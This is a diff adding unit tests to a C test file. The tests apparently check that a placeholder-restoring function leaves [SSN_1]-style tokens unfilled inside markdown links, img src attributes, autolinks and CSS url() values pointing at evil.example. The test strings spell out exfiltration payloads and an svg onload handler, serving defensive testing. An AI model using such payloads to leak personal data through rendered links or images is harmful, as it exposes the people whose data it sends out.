@@ -200,6 +200,12 @@ static void reference_definitions(void **state) {
     text("> [a b]:\n  //evil.example/[SSN_1]\n[NAME_1]", "> [a b]:\n  //evil.example/[SSN_1]\nAda");
     stays("[see [NAME_99]: //evil.example/[SSN_1]");
     text("see [1]: [NAME_1]", "see [1]: Ada");
+    text("[a\\]b]: //e.example/[SSN_1]\n[NAME_1]", "[a\\]b]: //e.example/[SSN_1]\nAda");
+    text("[a\\\\]: //e.example/[SSN_1]\n[NAME_1]", "[a\\\\]: //e.example/[SSN_1]\nAda");
+    text("[a\\]\nb]: //e.example/[SSN_1]", "[a\\]\nb]: //e.example/[SSN_1]");
+    text("[a\nb]:\n//e.example/[SSN_1]", "[a\nb]:\n//e.example/[SSN_1]");
+    text("[a\n\nb]: [NAME_1]", "[a\n\nb]: Ada");
+    text("- [ ] a\n[NAME_1]: b", "- [ ] a\nAda: b");
 }
 
 static void html_attributes_and_styles(void **state) {
@@ -209,6 +215,8 @@ static void html_attributes_and_styles(void **state) {
     text("<img src=//evil.example/[SSN_1]>[NAME_1]", "<img src=//evil.example/[SSN_1]>Ada");
     text("<img\n\nsrc\n=\n'//evil.example/[SSN_1]'>[NAME_1]", "<img\n\nsrc\n=\n'//evil.example/[SSN_1]'>Ada");
     text("<svg/onload=x([SSN_1])>[NAME_1]", "<svg/onload=x([SSN_1])>Ada");
+    text("<http:evil.example/[SSN_1]> <h:name>[NAME_1]</h:name>", "<http:evil.example/[SSN_1]> <h:name>Ada</h:name>");
+    text("<<img src=[SSN_1]> <b<img src=[SSN_1]> <b <img src=[SSN_1]>", "<<img src=[SSN_1]> <b<img src=[SSN_1]> <b <img src=[SSN_1]>");
     text("<b>[NAME_1]</b> <td>[SSN_1]</td>", "<b>Ada</b> <td>987-65-4320</td>");
     text("p{background:url(//evil.example/[SSN_1])} [NAME_1]", "p{background:url(//evil.example/[SSN_1])} Ada");
     text("url( \"//evil.example/)[SSN_1]\" ) [NAME_1]", "url( \"//evil.example/)[SSN_1]\" ) Ada");
